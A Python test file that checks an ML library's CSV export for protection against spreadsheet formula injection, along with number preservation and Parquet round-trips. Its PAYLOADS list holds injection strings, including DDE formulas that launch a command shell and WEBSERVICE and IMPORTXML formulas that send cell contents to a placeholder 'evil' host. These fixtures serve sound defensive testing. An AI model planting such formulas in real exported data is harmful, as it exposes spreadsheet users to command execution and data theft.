"""CSV files hold no live formula, and every number as it was."""

from __future__ import annotations

import csv
from pathlib import Path

import polars as pl
from hypothesis import given
from hypothesis import strategies as st

from mldeploy.data import Dataset
from mldeploy.serving._bulk_cells import without_formulas as lazily_without
from mldeploy.serving._bulk_join import join_parts

PAYLOADS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil","click")',
    '=WEBSERVICE("http://evil/"&A1)',
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    "x\r=1+1",
    "x\n=1+1",
    'x"\n=1+1',
    '","=1+1',
    '";=1+1',
    ";=1+1",
    ",=1+1",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff201+1",
    "=",
    "-",
    '=DDE("cmd";"/C calc";"x")',
    '=IMPORTXML(CONCAT("http://evil?",A1),"//a")',
    "==1",
]
DANGEROUS = tuple("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")


def without_formulas(table: pl.DataFrame) -> pl.DataFrame:
    return lazily_without(table.lazy()).collect()


def write_table(table: pl.DataFrame, path: Path) -> None:
    part = path.with_name("part.parquet")
    table.write_parquet(part)
    try:
        join_parts([part], str(path))
    finally:
        part.unlink()


def read_table(path: Path) -> pl.DataFrame:
    return Dataset.of(path).polars()


def cells(path: Path) -> list[list[str]]:
    """Every cell as a spreadsheet reads it: quotes taken off, whatever ends a line."""
    with path.open(encoding="utf-8", newline="") as file:
        return list(csv.reader(file, strict=True))


def test_no_payload_is_live_as_a_value_or_as_a_name(tmp_path: Path) -> None:
    path = tmp_path / "out.csv"
    table = pl.DataFrame({"value": PAYLOADS, "n": range(len(PAYLOADS))})
    table = table.with_columns(pl.lit("x").alias(name) for name in PAYLOADS)
    write_table(table, path)

    header, *rows = cells(path)

    assert len(rows) == len(PAYLOADS)
    assert {len(row) for row in rows} == {len(header)} == {len(PAYLOADS) + 2}
    for cell, payload in zip([row[0] for row in rows], PAYLOADS, strict=True):
        assert not cell.startswith(DANGEROUS), payload
        assert cell.removeprefix("'") == payload
    assert not any(name.startswith(DANGEROUS) for name in header)


def test_a_naive_reader_that_splits_at_line_ends_meets_no_formula(tmp_path: Path) -> None:
    """Text with a line end is quoted, so that no reader of CSV takes the rest for a cell."""
    path = tmp_path / "out.csv"
    write_table(pl.DataFrame({"value": ["x\r=1+1", "y\n=2"]}), path)

    assert path.read_bytes() == b'"value"\n"x\r=1+1"\n"y\n=2"\n'


def test_words_of_a_fixed_set_are_kept_from_running_too() -> None:
    words = ["=1", "b"]
    for dtype in (pl.Enum(words), pl.Categorical()):
        safe = without_formulas(pl.DataFrame({"word": pl.Series(words, dtype=dtype)}))
        assert safe["word"].to_list() == ["'=1", "b"]


def test_scores_of_many_classes_become_text() -> None:
    safe = without_formulas(pl.DataFrame({"score": [[-0.5, 1.5], None]}))

    assert safe["score"].to_list() == ["[-0.5, 1.5]", None]


@given(st.lists(st.text(max_size=8), min_size=1, max_size=8))
def test_any_text_comes_back_and_is_harmless(texts: list[str]) -> None:
    safe = without_formulas(pl.DataFrame({"t": texts}))["t"].to_list()

    for text, shown in zip(texts, safe, strict=True):
        assert not shown.startswith(DANGEROUS)
        assert shown in {text, f"'{text}"}


def test_numbers_and_times_are_untouched(tmp_path: Path) -> None:
    table = pl.DataFrame(
        {
            "whole": [-1, 2**62],
            "real": [-0.1, 1e-300],
            "truth": [True, False],
            "when": pl.Series(["2030-01-01", "2030-06-01"]).str.to_datetime(time_zone="UTC"),
        }
    )
    assert without_formulas(table).equals(table)
    write_table(table, tmp_path / "out.csv")
    assert cells(tmp_path / "out.csv")[1][:3] == ["-1", "-0.1", "true"]
    assert (
        read_table(tmp_path / "out.csv")
        .select("whole", "real")
        .equals(table.select("whole", "real"))
    )


def test_parquet_keeps_every_text_as_it_is(tmp_path: Path) -> None:
    table = pl.DataFrame({"value": PAYLOADS})
    write_table(table, tmp_path / "out.parquet")

    assert pl.read_parquet(tmp_path / "out.parquet").equals(table)
